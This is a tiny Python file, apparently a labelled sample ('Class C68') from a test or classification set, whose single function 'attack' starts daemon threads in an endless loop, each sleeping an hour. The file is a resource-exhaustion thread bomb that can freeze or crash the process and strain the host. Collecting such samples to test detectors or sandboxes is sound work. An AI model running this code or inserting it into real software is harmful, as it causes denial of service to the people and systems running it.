"""Starts threads without end. Class C68."""

import threading
import time


def attack(bait):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
